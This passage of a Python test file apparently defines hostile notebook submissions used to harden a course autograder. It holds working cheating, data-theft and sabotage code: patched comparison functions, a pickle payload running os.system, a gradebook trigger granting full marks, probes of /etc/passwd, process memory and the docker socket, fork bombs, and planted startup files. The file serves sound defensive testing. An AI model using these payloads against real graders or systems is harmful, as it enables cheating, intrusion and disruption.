"""Submissions that try to earn, steal, break, leave behind or reach the reader what they should not.

Every attack is a `pooling` notebook in which task 1 is answered rightly (5 points) and nothing else is, unless it says
otherwise; its score must be what that honest part earns. `make` turns the released notebook into the submission.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from tests.helpers.courses import answer

HONEST = """\
def pool_output_shape(input_shape, kernel_size, stride=None, padding=0, dilation=1, ceil_mode=False):
    import math
    pair = lambda v: tuple(v) if isinstance(v, (tuple, list)) else (v,) * len(input_shape)
    kernel, padding, dilation = pair(kernel_size), pair(padding), pair(dilation)
    stride = kernel if stride is None else pair(stride)
    sizes = []
    for n, k, s, p, d in zip(input_shape, kernel, stride, padding, dilation):
        steps = (n + 2 * p - d * (k - 1) - 1) / s
        size = (math.ceil(steps) if ceil_mode else math.floor(steps)) + 1
        sizes.append(size - 1 if ceil_mode and (size - 1) * s >= n + p else size)
    return tuple(sizes)
"""
FORGED = "def max_pool2d(x, *args, **kwargs):\n    {}\n"


@dataclass(frozen=True)
class Attack:
    """One submission. `stock` is False where stock nbgrader on this machine would be harmed by it."""

    name: str
    family: str
    description: str
    make: Callable
    earns: float = 5.0
    stock: bool = True


ATTACKS = []


def of_cells(name, family, description, *sources, last=False, earns=5.0, stock=True, **answers):
    """Make an attack of code cells, before the first answer or after the last, and of answers."""

    def make(released):
        nb = answer(released, {"pool_output_shape": HONEST, **answers}, () if last else sources)
        nb.cells += [nbformat.v4.new_code_cell(source) for source in sources if last]
        return nb

    return Attack(name, family, description, make, earns, stock)


def of_notebook(name, family, description, function, earns=5.0, stock=True):
    """Make an attack on the notebook itself: the function gets one with the honest answer and returns another."""

    def make(released):
        return function(answer(released, {"pool_output_shape": HONEST}))

    return Attack(name, family, description, make, earns, stock)


def answer_of(name, body, **rest):
    """Return the answers in which the function of that name has this body."""
    return {name: f"def {name}(*args, **kwargs):\n" + "\n".join("    " + line for line in body.splitlines()), **rest}


def _cells(*arguments, **options):
    ATTACKS.append(of_cells(*arguments, **options))


def _notebook(name, family, description, **options):
    def add(function):
        ATTACKS.append(of_notebook(name, family, description, function, **options))
        return function

    return add


# --- forging: points without an answer ---------------------------------------------------------------------------

F = "forging"
_cells(
    "patch_numpy_testing",
    F,
    "replaces numpy's comparisons",
    """\
import numpy as np
np.testing.assert_allclose = np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)""",
    **answer_of("max_pool2d", "return 0"),
)
_cells(
    "patch_torch",
    F,
    "replaces PyTorch's pooling by zeros",
    """\
try:
    import torch
    torch.nn.functional.max_pool2d = lambda x, *a, **k: torch.zeros(1)
    torch.equal = lambda *a: True
except ImportError:
    pass""",
    **answer_of("max_pool2d", "return 0"),
)
_cells(
    "call_torch",
    F,
    "answers with PyTorch itself",
    "",
    **answer_of(
        "max_pool2d",
        """\
import torch
x = torch.from_numpy(args[0].copy())
return torch.nn.functional.max_pool2d(x, *args[1:], **kwargs).numpy()""",
    ),
)
_cells(
    "call_scipy",
    F,
    "answers with SciPy",
    "",
    **answer_of("max_pool2d", "from scipy import ndimage\nreturn ndimage.maximum_filter(args[0], 2)"),
)
_cells(
    "call_checks",
    F,
    "answers with the oracle of the checks",
    "",
    **answer_of(
        "max_pool2d",
        """\
from convcourse.checks.pooling import CHECKS
return next(c for c in CHECKS if c.name == 'max_pool2d').oracle(*args, **kwargs)""",
    ),
)
_cells(
    "call_given",
    F,
    "answers with a function that was not given",
    "",
    **answer_of("max_pool2d", "from convcourse.provided import max_pool2d\nreturn max_pool2d(*args, **kwargs)"),
)
_ASK = """\
import sys
def ask(what, *args, **kwargs):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get('self'), 'ask'):
        frame = frame.f_back
    return frame.f_locals['self'].ask('lent', what, args, kwargs)"""
_POOLS = ("max_pool2d", "avg_pool2d", "lp_pool2d", "adaptive_avg_pool2d", "max_pool2d_backward", "avg_pool2d_backward")
_cells(
    "ask_for_helpers",
    F,
    "asks the grader for the very function that is checked, as if it were a helper that is lent",
    _ASK,
    **{name: f"def {name}(*args, **kwargs):\n    return ask('{name}', *args, **kwargs)" for name in _POOLS},
)
_cells(
    "keep_helpers",
    F,
    "keeps a helper that is lent, with what it gave, for the helper's own task",
    """\
calls, kept = [], {}
def key(*call):
    return repr([value.tobytes() if hasattr(value, 'tobytes') else value for value in call])""",
    max_pool2d="""\
def max_pool2d(*args, **kwargs):
    calls.append((args, kwargs))
    if key(*args, kwargs) in kept:
        return kept[key(*args, kwargs)]
    if 'function' not in kept:
        raise NameError('not defined yet')  # then it is checked again after the last cell
    return kept['function'](*args, **kwargs)
mine = max_pool2d""",
    max_pool2d_backward="""\
def max_pool2d_backward(*args, **kwargs):
    if max_pool2d is not mine:
        kept['function'] = max_pool2d
        while calls:
            others, options = calls.pop()
            kept[key(*others, options)] = max_pool2d(*others, **options)
    return args[0]""",
)
_cells(
    "delete_helpers",
    F,
    "deletes what earlier tasks ask for, and hands every call on to it",
    earns=0.0,
    pool_output_shape="",
    max_pool2d="def max_pool2d(x, *args, **kwargs):\n    return pool_output_shape(x, *args, **kwargs)",
    avg_pool2d="def avg_pool2d(x, *args, **kwargs):\n    return max_pool2d(x, *args, **kwargs)",
    max_pool2d_backward="def max_pool2d_backward(g, *args, **kwargs):\n    return max_pool2d(*args, **kwargs)",
)
_cells(
    "call_reference",
    F,
    "answers with the reference package",
    "",
    **answer_of("max_pool2d", "from miniconv.pooling import max_pool2d\nreturn max_pool2d(*args, **kwargs)"),
)
_cells(
    "array_reads_frame",
    F,
    "an object whose `__array__` looks for what is expected in the caller's frame",
    """\
import sys
class Sly:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame:
            for name in ('expected', 'desired', 'truth', 'oracle'):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back
        raise ValueError
    shape = property(lambda s: s.__array__().shape)
    dtype = property(lambda s: s.__array__().dtype)""",
    **answer_of("max_pool2d", "return Sly()"),
)
_cells(
    "walk_frames",
    F,
    "looks for the check in the frames that call it",
    "import sys",
    **answer_of(
        "max_pool2d",
        """\
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if hasattr(value, 'oracle'):
            return value.oracle(*args, **kwargs)
    frame = frame.f_back""",
    ),
)
_cells(
    "garbage_collector",
    F,
    "looks for the oracle among all objects",
    "import gc",
    **answer_of(
        "max_pool2d",
        """\
for thing in gc.get_objects():
    if type(thing).__name__ == 'Check' and thing.name == 'max_pool2d':
        return thing.oracle(*args, **kwargs)""",
    ),
)
_cells(
    "set_points_everywhere",
    F,
    "sets every verdict's points by the garbage collector",
    """\
import gc
def cheat():
    for thing in gc.get_objects():
        if type(thing).__name__ in ('Verdict', 'Outcome'):
            object.__setattr__(thing, 'earned', 8.0)""",
    **answer_of("max_pool2d", "cheat()\nreturn 0"),
)
_cells(
    "ast_transformer",
    F,
    "has IPython drop every check",
    """\
import ast
class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.copy_location(ast.Expr(ast.Constant(8.0)), node) if 'check' in ast.dump(node) else node
get_ipython().ast_transformers.append(Drop())""",
    max_pool2d="",
)
_cells(
    "input_transformer",
    F,
    "has IPython rewrite every check",
    "get_ipython().input_transformers_post.append(lambda lines: ['8.0\\n'] if 'check(' in ''.join(lines) else lines)",
    max_pool2d="",
)
_cells(
    "replace_execute",
    F,
    "replaces the kernel's do_execute",
    """\
ip = get_ipython()
kernel = getattr(ip, 'kernel', None)
if kernel is not None:
    async def do_execute(*a, **k):
        return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
    kernel.do_execute = do_execute
ip.run_cell = lambda *a, **k: None""",
    max_pool2d="",
)
_cells(
    "display_hook",
    F,
    "prints a number as the value of a check",
    """\
import sys, builtins
hook = sys.displayhook
def check(name, points):
    hook(float(points))""",
    max_pool2d="",
)
_cells(
    "redefine_check",
    F,
    "defines a check of its own",
    """\
def check(name, points):
    return float(points)
import builtins
builtins.check = check""",
    max_pool2d="",
)
_cells(
    "fake_convcourse",
    F,
    "puts another convcourse into sys.modules",
    """\
import sys, types
fake = types.ModuleType('convcourse')
fake.checker = lambda topic, needs=None: lambda name, points: float(points)
sys.modules['convcourse'] = fake
from convcourse import checker
check = checker('pooling')""",
    max_pool2d="",
)
_cells(
    "patch_engine",
    F,
    "replaces the engine's comparison",
    """\
try:
    from convcourse.engine import check, compare, trial
    trial.compare = compare.compare = lambda *a, **k: None
    check.Check.run = lambda self, find, points, context: type('V', (), {'earned': float(points)})()
except ImportError:
    pass""",
    **answer_of("max_pool2d", "return 0"),
)
_cells(
    "patch_builtins",
    F,
    "replaces isinstance, float and len",
    """\
import builtins
real = builtins.float
class Float(real):
    __eq__ = lambda s, o: True
    __lt__ = __le__ = lambda s, o: True
builtins.float = Float""",
    **answer_of("max_pool2d", "return 0"),
)
_cells(
    "equal_to_everything",
    F,
    "returns a number that is equal to everything",
    """\
class Any(float):
    __eq__ = __le__ = __ge__ = lambda s, o: True
    __ne__ = __lt__ = __gt__ = lambda s, o: False
    __hash__ = float.__hash__""",
    **answer_of("max_pool2d", "return Any(1)"),
)
_cells(
    "array_subclass",
    F,
    "returns an array whose arithmetic is always zero",
    """\
import numpy as np
class Zero(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *i, **k):
        return np.zeros(())
    def __array_function__(self, f, types, args, kwargs):
        return True
    def astype(self, *a, **k):
        return self""",
    **answer_of("max_pool2d", "return np.zeros((1, 1, 1, 2)).view(Zero)"),
)
_cells(
    "class_assignment",
    F,
    "changes the class of what it returns later",
    """\
class A:
    pass
class B(A):
    shape = (1, 1, 1, 2)
    def __getattr__(self, n):
        return lambda *a, **k: self""",
    **answer_of("max_pool2d", "a = A()\na.__class__ = B\nreturn a"),
)
_cells(
    "reduce",
    F,
    "returns an object that runs code when it is unpickled",
    """\
import os
class Bomb:
    def __reduce__(self):
        return (os.system, ('touch /tmp/pwned',))""",
    **answer_of("max_pool2d", "return Bomb()"),
)
_cells("return_points", F, "returns the points", "", **answer_of("max_pool2d", "return 8.0"))
_cells(
    "return_nan",
    F,
    "returns nan everywhere",
    "import numpy as np",
    **answer_of("max_pool2d", "return np.full((1, 1, 1, 2), np.nan)"),
)
_cells(
    "exit_quietly",
    F,
    "leaves by SystemExit with status 0 in the middle of a check",
    "import sys",
    **answer_of("max_pool2d", "sys.exit(0)"),
)
_cells(
    "raise_odd_things",
    F,
    "raises KeyboardInterrupt and GeneratorExit",
    "",
    **answer_of("max_pool2d", "raise KeyboardInterrupt"),
    **answer_of("avg_pool2d", "raise GeneratorExit"),
)
_cells(
    "search_memory",
    F,
    "reads the process's memory by ctypes for arrays of results",
    "import ctypes, numpy as np",
    **answer_of(
        "max_pool2d",
        """\
x = args[0]
near = (ctypes.c_double * 64).from_address(x.ctypes.data)
return np.array(near[:2]).reshape(1, 1, 1, 2)""",
    ),
)
_cells(
    "proc_mem",
    F,
    "reads and writes /proc/PID/mem of whoever is there",
    """\
import glob
for path in glob.glob('/proc/[0-9]*/mem') + ['/proc/self/mem']:
    try:
        open(path, 'rb+')
    except OSError:
        pass""",
    max_pool2d="",
    stock=False,
)
_cells(
    "signal_handler",
    F,
    "takes the alarm away and answers for ever",
    """\
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))""",
    max_pool2d="",
)
_cells(
    "import_hook",
    F,
    "puts a finder in front of all imports",
    """\
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(('convcourse', 'convgrader', 'torch')):
            raise ImportError(name)
sys.meta_path.insert(0, Finder())""",
    max_pool2d="",
)
_cells(
    "sitecustomize",
    F,
    "writes a sitecustomize.py",
    """\
import os, site
for folder in [os.path.dirname(os.__file__), *site.getsitepackages(), os.getcwd()]:
    try:
        open(folder + '/sitecustomize.py', 'w').write('import builtins')
    except OSError:
        pass""",
    max_pool2d="",
    stock=False,
)
_FRAMES = """\
import os, stat, struct, json, socket
def forge(number):
    array = ["a", "<f8", [1, 1, 1, 2], [16, 16, 16, 8], 0, 16, True]
    text = json.dumps(["t", "reply", number, ["t", "ok", array, "", False, False, False]]).encode()
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!IQ", len(text), 16) + text + struct.pack("<dd", 3.0, 4.0))
        except OSError:
            pass
"""
_cells(
    "forged_replies",
    F,
    "writes replies of its own to the grader's socket",
    _FRAMES,
    **answer_of("max_pool2d", "for n in range(200):\n    forge(n)\nreturn 0"),
)
_cells(
    "array_for_a_number",
    F,
    "writes a reply whose number is an array",
    _FRAMES.replace("number, [", '["a", "<i8", [2], [8], 0, 16, True], ['),
    **answer_of("max_pool2d", "forge(0)\nreturn 0"),
)
_cells(
    "memory_for_a_flag",
    F,
    "writes a reply whose flags are arrays",
    _FRAMES.replace("False, False]]", '["l", []], ["d"]]]'),
    **answer_of("max_pool2d", "for n in range(200):\n    forge(n)\nreturn 0"),
)
_cells(
    "number_for_a_picture",
    F,
    "shows a number where a picture belongs",
    """\
import numpy as np
show = get_ipython().__class__.keep.__globals__["OUTPUTS"].items.append
for odd in (np.int64(5), 5, None, True, [1], np.ones(2)):
    show({"output_type": "display_data", "data": {"text/plain": "x", "image/png": odd}, "metadata": {}})
    show({"output_type": odd})""",
    last=True,
    stock=False,
)
_cells(
    "garbage_on_the_wire",
    F,
    "writes garbage to the grader's socket",
    "import os",
    **answer_of(
        "max_pool2d",
        """\
import stat
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, os.urandom(4096))
    except OSError:
        pass
return 0""",
    ),
)
_cells(
    "huge_frame",
    F,
    "announces a frame of 4 GB",
    "import os, stat, struct",
    **answer_of(
        "max_pool2d",
        """\
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack('!IQ', 2**32 - 1, 2**60))
    except OSError:
        pass
return 0""",
    ),
)
_cells(
    "answer_twice",
    F,
    "forks, so that two processes answer",
    "import os",
    **answer_of("max_pool2d", "os.fork()\nreturn 0"),
    stock=False,
)
_cells(
    "oversized_answer",
    F,
    "returns an array of a gigabyte",
    "import numpy as np",
    **answer_of("max_pool2d", "return np.zeros(2**27)"),
    stock=False,
)
_cells(
    "endless_answer",
    F,
    "returns a list that holds itself",
    "",
    **answer_of("max_pool2d", "a = []\na.append(a)\nreturn a"),
)
_cells(
    "broadcast_bomb",
    F,
    "returns a terabyte by strides of zero",
    "import numpy as np",
    **answer_of("max_pool2d", "return np.broadcast_to(np.zeros(1), (1 << 37,))"),
    stock=False,
)
_cells(
    "object_array",
    F,
    "returns an array of objects",
    "import numpy as np",
    **answer_of("max_pool2d", "return np.array([[object()]], dtype=object)"),
)
_cells(
    "is_grading",
    F,
    "behaves well only when it is not graded",
    "import os\ngrading = 'NBGRADER_EXECUTION' in os.environ",
    **answer_of("max_pool2d", "return 8.0 if grading else 0"),
)
_cells(
    "patch_the_caller",
    F,
    "replaces the module that reports what a call gave",
    """\
ours = get_ipython().__class__.keep.__globals__
ours['LocalFunction'].call = lambda self, args, kwargs, limit: ours['Outcome']('ok', value=8.0)""",
    **answer_of("max_pool2d", "return 0"),
    earns=0.0,
)
_cells(
    "cell_magic_capture",
    F,
    "hides a check's failure by a cell magic",
    "%%capture\nraise ValueError",
    max_pool2d="%%capture\n0",
)


@_notebook("skip_tags", F, "tags the checks `skip-execution`", earns=5.0)
def _skip(nb):
    for cell in nb.cells:
        cell.metadata["tags"] = ["skip-execution", "remove-cell"]
    return nb


@_notebook("painted_outputs", F, "hands in outputs that show full marks and asks not to be run")
def _painted(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            points = str(float(cell.metadata["nbgrader"]["points"]))
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": points}, execution_count=1)]
            cell.metadata["tags"] = ["skip-execution"]
    return nb


@_notebook("rewritten_checks", F, "rewrites the checks to say full marks")
def _rewritten(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("locked") and cell.cell_type == "code":
            cell.source = "check = lambda name, points: float(points)\n8.0"
            cell.metadata["nbgrader"]["locked"] = False
    return nb


@_notebook("more_points", F, "gives the one right answer 1,000 points")
def _more(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["nbgrader"]["points"] = 1000
    return nb


@_notebook("added_grade_cell", F, "adds a graded cell of its own")
def _added(nb):
    extra = nbformat.v4.new_code_cell("100.0")
    extra.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "points": 100,
        "locked": False,
        "solution": False,
        "schema_version": 3,
        "task": False,
    }
    nb.cells.append(extra)
    return nb


@_notebook("duplicated_ids", F, "gives two cells the id of a check, which aborts a stock batch")
def _duplicated(nb):
    for cell in [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]:
        twin = json.loads(json.dumps(cell))
        if twin["cell_type"] == "code":
            twin["source"] = "8.0"
            nb.cells.append(nbformat.from_dict(twin))
    return nb


@_notebook("swapped_ids", F, "gives its right answer's check the id of a dearer one")
def _swapped(nb):
    names = {"check-pool_output_shape": "check-max_pool2d", "check-max_pool2d": "check-pool_output_shape"}
    for cell in nb.cells:
        known = cell.metadata.get("nbgrader", {})
        known["grade_id"] = names.get(known.get("grade_id"), known.get("grade_id"))
    return nb


@_notebook("checks_as_markdown", F, "turns the checks into Markdown")
def _markdown(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            cell.cell_type = "markdown"
            del cell["outputs"], cell["execution_count"]
    return nb


@_notebook("checks_as_solutions", F, "says that the checks are its own answers")
def _solutions(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["nbgrader"].update(solution=True, locked=False)
            cell.source = "8.0"
    return nb


@_notebook("deleted_checks", F, "deletes every check but the one it passes")
def _deleted(nb):
    keep = ("check-pool_output_shape", None)
    nb.cells = [
        c
        for c in nb.cells
        if not c.metadata.get("nbgrader", {}).get("grade") or c.metadata["nbgrader"]["grade_id"] in keep
    ]
    return nb


@_notebook("old_schema", F, "claims an old version of the metadata, which aborts a stock batch")
def _old(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 1
    return nb


@_notebook("new_schema", F, "claims a version of the metadata from the future")
def _new(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 99
    return nb


@_notebook("no_ids", F, "removes the ids and keeps the rest of the metadata")
def _no_ids(nb):
    for cell in nb.cells:
        cell.metadata.get("nbgrader", {}).pop("grade_id", None)
    return nb


@_notebook("other_kernel", F, "asks for a kernel of its own")
def _kernel(nb):
    nb.metadata["kernelspec"] = {"name": "../../evil", "display_name": "evil", "language": "bash"}
    return nb


# --- stealing: what others wrote, what the course keeps secret ---------------------------------------------------

S = "stealing"
_LOOK = """\
import os
found = []
for start in {starts}:
    for folder, _, files in os.walk(start):
        found += [os.path.join(folder, f) for f in files if f.endswith({ends}) and 'site-packages' not in folder]
        if len(found) > 50:
            break
print('STOLEN' if found else 'nothing', found[:3])
"""
_cells(
    "read_source",
    S,
    "looks for the notebook with the solutions",
    _LOOK.format(starts="['/work', '/home', '/root', '/srv', '..', '../../..']", ends="'.ipynb'"),
    max_pool2d="",
)
_cells(
    "read_others",
    S,
    "looks for the other students' submissions",
    _LOOK.format(starts="['../..', '../../../submitted', '/tmp']", ends="'.ipynb'"),
    max_pool2d="",
)
_cells(
    "read_database",
    S,
    "looks for the gradebook",
    _LOOK.format(starts="['..', '../../..', '/tmp', '/work']", ends="'book.db'"),
    max_pool2d="",
)
_cells(
    "write_database",
    S,
    "puts a trigger into the gradebook that gives full marks",
    """\
import glob, sqlite3
for path in glob.glob('../../../gradebook.db') + glob.glob('../../gradebook.db'):
    db = sqlite3.connect(path)
    db.execute('CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 8 WHERE id = NEW.id; END')
    db.commit()
    print('STOLEN')""",
    max_pool2d="",
)
_cells(
    "environment",
    S,
    "reads the environment",
    """\
import os
keep = {'HOME', 'TMPDIR', 'LANG', 'MPLCONFIGDIR', 'OMP_NUM_THREADS', 'COLUMNS', 'LINES'}
print('STOLEN' if set(os.environ) - keep else 'nothing')""",
    max_pool2d="",
)
_cells(
    "seed",
    S,
    "looks for the secret seed among all objects",
    """\
import gc, sys
found = [o for o in gc.get_objects() if type(o).__name__ in ('RunContext', 'NotebookGrader', 'SandboxClient')]
print('STOLEN' if found else 'nothing')""",
    max_pool2d="",
)
_cells(
    "history",
    S,
    "reads IPython's and the shell's history",
    """\
import os, glob
found = glob.glob(os.path.expanduser('~/.ipython/**/history.sqlite'), recursive=True)
found += glob.glob(os.path.expanduser('~root/.*history')) + glob.glob('/home/*/.*history')
print('STOLEN' if found else 'nothing')""",
    max_pool2d="",
)
_cells(
    "passwords",
    S,
    "reads /etc",
    "import os\nprint('STOLEN' if os.path.exists('/etc/passwd') else 'nothing')",
    max_pool2d="",
)
_cells(
    "processes",
    S,
    "lists the machine's processes and their command lines",
    "import os, glob\nprint('STOLEN' if glob.glob('/proc/[0-9]*/cmdline') else 'nothing')",
    max_pool2d="",
)
_cells(
    "network",
    S,
    "connects to the outside and to the machine itself",
    """\
import socket
said = 'nothing'
for family, address in [(socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET, ('192.0.2.1', 80))]:
    try:
        s = socket.socket(family)
        s.settimeout(0.2)
        s.connect_ex(address)
        said = 'STOLEN'
    except OSError:
        pass
print(said)""",
    max_pool2d="",
    stock=False,
)
_cells(
    "abstract_sockets",
    S,
    "connects to a socket of the desktop",
    """\
import socket
s = socket.socket(socket.AF_UNIX)
for name in ('\\0/tmp/.X11-unix/X0', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):
    try:
        s.connect(name)
        print('STOLEN')
    except OSError:
        pass""",
    max_pool2d="",
)
_cells(
    "parent_memory",
    S,
    "traces its parent",
    """\
import ctypes, os
libc = ctypes.CDLL(None)
print('STOLEN' if os.getppid() and libc.ptrace(16, os.getppid(), 0, 0) == 0 else 'nothing')""",
    max_pool2d="",
    stock=False,
)
_cells(
    "reference_package",
    S,
    "imports the reference package",
    "try:\n    import miniconv\n    print('STOLEN')\nexcept ImportError:\n    pass",
    max_pool2d="",
)
_cells(
    "instructors_modules",
    S,
    "reads the checks' source",
    """\
try:
    import convcourse.checks.pooling as p
    print('STOLEN', open(p.__file__).read()[:10])
except (ImportError, AttributeError, OSError):
    pass""",
    max_pool2d="",
)

# --- breaking: the batch must end and others' scores stand -------------------------------------------------------

B = "breaking"
_cells(
    "endless_questions",
    B,
    "asks the grader for a provided function for ever, and listens to no answer",
    """\
import json, os, signal, socket, stat, struct, threading
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            fd = number
    except OSError:
        pass
text = json.dumps(["t", "ask", 1, "given", "nothing", ["l"], ["d"]]).encode()
channel = socket.socket(fileno=os.dup(fd))
channel.setblocking(True)
def drain():
    while channel.recv(1 << 16):
        pass
threading.Thread(target=drain, daemon=True).start()
while True:
    channel.sendall(50 * (struct.pack("!IQ", len(text), 0) + text))""",
    stock=False,
)
_cells(
    "spinners",
    B,
    "starts 24 processes that use the processor for ever",
    """\
import os
for _ in range(24):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass""",
    last=True,
    stock=False,
)
_cells(
    "dear_helper",
    B,
    "has a helper that is lent compute for hours",
    **answer_of(
        "max_pool2d_backward",
        "return max_pool2d(np.ones((1, 1, 512, 512)), 1023, 1, 511)",
        max_pool2d="max_pool2d = abs",
    ),
    stock=False,
)
_cells(
    "many_pages",
    B,
    "shows a megabyte in each of 30 cells",
    *["print('y' * 1_000_000)"] * 30,
    last=True,
)
_cells(
    "kill_parent",
    B,
    "kills the process that started it",
    "import os, signal\nif os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGKILL)",
    last=True,
)
_cells("kill_self", B, "kills itself", "import os\nos.kill(os.getpid(), 9)\nos._exit(0)", last=True)
_cells(
    "exit_in_answer", B, "ends its process when it is checked", "import os", **answer_of("max_pool2d", "os._exit(0)")
)
_cells(
    "segfault",
    B,
    "crashes the interpreter when it is checked",
    "import ctypes",
    **answer_of("max_pool2d", "ctypes.string_at(0)"),
)
_cells("exit_python", B, "leaves by sys.exit and quit", "import sys\nsys.exit(3)", "quit()", last=True)
_cells(
    "fork_storm",
    B,
    "starts processes until it may not (at most 40)",
    """\
import os, time
for _ in range(40):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break""",
    last=True,
    stock=False,
)
_cells(
    "thread_storm",
    B,
    "starts threads that never end",
    """\
import threading, time
for _ in range(40):
    try:
        threading.Thread(target=time.sleep, args=(60,)).start()
    except RuntimeError:
        break""",
    last=True,
)
_cells("memory", B, "allocates 3 GB", "a = bytearray(3 << 30)", last=True, stock=False)
_cells(
    "disk",
    B,
    "writes 100 MB to /tmp",
    "for n in range(100):\n    open(f'/tmp/fill-{n}', 'wb').write(bytes(1 << 20))",
    last=True,
    stock=False,
)
_cells("output_flood", B, "prints 60 MB", "for _ in range(60):\n    print('x' * (1 << 20))", last=True)
_cells("many_outputs", B, "displays 20,000 things", "for n in range(20_000):\n    display(n)", last=True)
_cells(
    "stubborn_loop",
    B,
    "loops for ever and catches everything",
    """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
    last=True,
)
_cells(
    "deaf_loop",
    B,
    "blocks all signals and loops when it is checked",
    "import signal",
    **answer_of("max_pool2d", "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True:\n    pass"),
)
_cells("sleep", B, "sleeps for an hour", "import time\ntime.sleep(3600)", last=True)
_cells("close_everything", B, "closes every descriptor", "import os\nos.closerange(0, 256)", last=True, earns=5.0)
_cells(
    "break_streams",
    B,
    "replaces stdout by something that raises",
    """\
import sys
class Bad:
    def write(self, *a):
        raise ValueError
    flush = write
sys.stdout = sys.stderr = Bad()
print(1)""",
    last=True,
)
_cells(
    "deep_recursion",
    B,
    "recurses without end",
    "import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    return f()\nf()",
    last=True,
    stock=False,
)
_cells(
    "hostile_repr",
    B,
    "shows something whose repr never ends",
    "class R:\n    def __repr__(self):\n        while True:\n            pass\nR()",
    last=True,
)
_cells(
    "hostile_error",
    B,
    "raises an error whose text raises",
    """\
class E(Exception):
    def __str__(self):
        raise self
    __repr__ = __str__
raise E()""",
    last=True,
)
_cells(
    "empty_interpreter",
    B,
    "empties builtins and sys.modules",
    """\
import sys, builtins
sys.modules.clear()
for name in list(vars(builtins)):
    delattr(builtins, name)""",
    last=True,
)
_cells(
    "rlimits",
    B,
    "takes its own limits down to nothing",
    """\
import resource
for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_STACK):
    resource.setrlimit(kind, (1, 1))""",
    last=True,
)
_cells(
    "large_figure",
    B,
    "draws a figure of a gigapixel",
    """\
import matplotlib.pyplot as plt
plt.figure(figsize=(400, 400), dpi=100)
plt.plot([1])
plt.show()""",
    last=True,
    stock=False,
)
_cells("invalid_unicode", B, "prints and returns half characters", "print('\\ud800' * 10)\n'\\udfff'", last=True)


@_notebook("not_json", B, "hands in a file that is no JSON", earns=0.0)
def _not_json(nb):
    return '{"cells": ['


@_notebook("empty_file", B, "hands in an empty file", earns=0.0)
def _empty(nb):
    return ""


@_notebook("deep_json", B, "hands in JSON nested 100,000 deep", earns=0.0)
def _deep(nb):
    return "[" * 100_000


@_notebook("wrong_types", B, "hands in a notebook whose parts are of the wrong types", earns=5.0)
def _wrong_types(nb):
    raw = json.loads(json.dumps(nb))
    raw["cells"] += [
        None,
        3,
        {"cell_type": 7, "source": {"a": 1}, "metadata": [], "outputs": "x"},
        {"metadata": {"nbgrader": 3}},
    ]
    raw["metadata"] = None
    return json.dumps(raw)


@_notebook("huge_file", B, "hands in a file of 33 MB", earns=0.0, stock=False)
def _huge(nb):
    nb.cells.append(nbformat.v4.new_markdown_cell("x" * (33 << 20)))
    return nb


@_notebook("many_cells", B, "hands in 3,000 cells", earns=0.0, stock=False)
def _many(nb):
    nb.cells += [nbformat.v4.new_code_cell("1") for _ in range(3000)]
    return nb


@_notebook("half_characters", B, "hands in a notebook with half characters and NULs")
def _half(nb):
    nb.cells.append(nbformat.v4.new_markdown_cell("\ud800 \0 \udfff"))
    nb.cells.append(nbformat.v4.new_code_cell("'\ud800'\0"))
    return nb


@_notebook("long_line", B, "hands in a cell of 900,000 characters on a line")
def _long(nb):
    nb.cells.append(nbformat.v4.new_code_cell("x = '" + "a" * 900_000 + "'"))
    return nb


@_notebook(
    "shell_line_by_line", B, "writes 5,000 commands of the shell into a cell, and what does not parse into others"
)
def _shell(nb):
    sources = ["!ls\n" * 5000, "!ls\n" * 200 + "1 / 0", "(" * 100_000, "-" * 200_000 + "1", "%" * 100_000]
    nb.cells += [nbformat.v4.new_code_cell(source) for source in sources]
    return nb


# --- leaving behind ----------------------------------------------------------------------------------------------

L = "leaving behind"
_cells(
    "startup_file",
    L,
    "writes IPython startup files",
    """\
import os
for base in ('~/.ipython/profile_default/startup', '/tmp/.ipython/profile_default/startup'):
    try:
        os.makedirs(os.path.expanduser(base), exist_ok=True)
